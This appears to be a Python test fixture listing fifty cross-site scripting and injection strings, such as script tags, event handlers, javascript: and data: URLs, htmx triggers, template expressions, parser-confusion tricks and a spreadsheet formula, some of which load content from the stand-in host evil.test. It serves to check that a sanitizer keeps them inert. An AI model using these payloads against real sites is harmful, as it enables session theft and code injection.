"""Fifty strings that want to become more than text. Wherever one comes to life it sets `alive`, opens a dialog or asks
evil.test for something; as long as it is text it does nothing of that."""

ELEMENTS = [
    "<script>alive=1</script>", "<ScRiPt src=//evil.test/x></ScRiPt>", "</script><script>alive=1</script>",
    "</title></textarea><script>alive=1</script>", "<img src=x onerror=alive=1>", "<img/src=x\nonerror=alive=1>",
    "<svg onload=alive=1>", "<svg><script>alive&#61;1</script></svg>", "<svg><animate onbegin=alive=1 attributeName=x>",
    "<body onload=alert(1)>", "<details open ontoggle=alive=1>", "<input autofocus onfocus=alive=1>"]
FRAMES = [
    "<iframe srcdoc='<script>parent.alive=1</script>'>", "<iframe src=javascript:parent.alive=1>",
    "<object data=//evil.test/x></object>", "<embed src=//evil.test/x>", "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>", "<link rel=stylesheet href=//evil.test/x>",
    "<style>*{background:url(//evil.test/s)}</style>", "<form action=//evil.test><button>Save</form>",
    "<template><script>alive=1</script></template>"]
ATTRIBUTES = [
    "\" onmouseover=\"alive=1", "' onfocus='alive=1' autofocus='", "x onclick=alive=1", "\"><b onclick=alive=1>",
    "` onerror=alive=1", "\" style=\"background:url(//evil.test/a)", "\" hx-get=\"//evil.test/h\" hx-trigger=\"load",
    "<b hx-on::load='alive=1' hx-on:htmx:load='alive=1'>", "<b hx-get=/ hx-trigger=load hx-vals='js:{a:alive=1}'>",
    "\" data-copy=\"x\" formaction=\"javascript:alive=1"]
ADDRESSES = [
    "javascript:alive=1", "JaVa\tScRiPt:alert(1)", " javascript:alive=1//http://",
    "data:text/html,<script>alive=1</script>",
    "vbscript:alive=1", "[a](javascript:alive=1)", "![a](http://evil.test/m.png)", "[a](data:text/html;base64,YQ==)",
    "<javascript:alive=1>"]
TRICKS = [
    "{{constructor.constructor('alive=1')()}}", "{% for x in y %}{{7*7}}", "${alive=1}",
    "+ADw-script+AD4-alive=1+ADw-/script+AD4-", "&lt;img src=x onerror=alive=1&gt;", "\u202e<script>alive=1</script>",
    "<noscript><p title='</noscript><img src=x onerror=alive=1>'>", "<math><mtext><table><mglyph><style><img src=x "
    "onerror=alive=1>", "=HYPERLINK(\"http://evil.test\",\"a\")"]

GROUPS = {"elements": ELEMENTS, "frames": FRAMES, "attributes": ATTRIBUTES, "addresses": ADDRESSES, "tricks": TRICKS}
ALL = [one for group in GROUPS.values() for one in group]
MARKS = {name: " ".join(group) for name, group in GROUPS.items()}
EVERYTHING = " ".join(ALL)
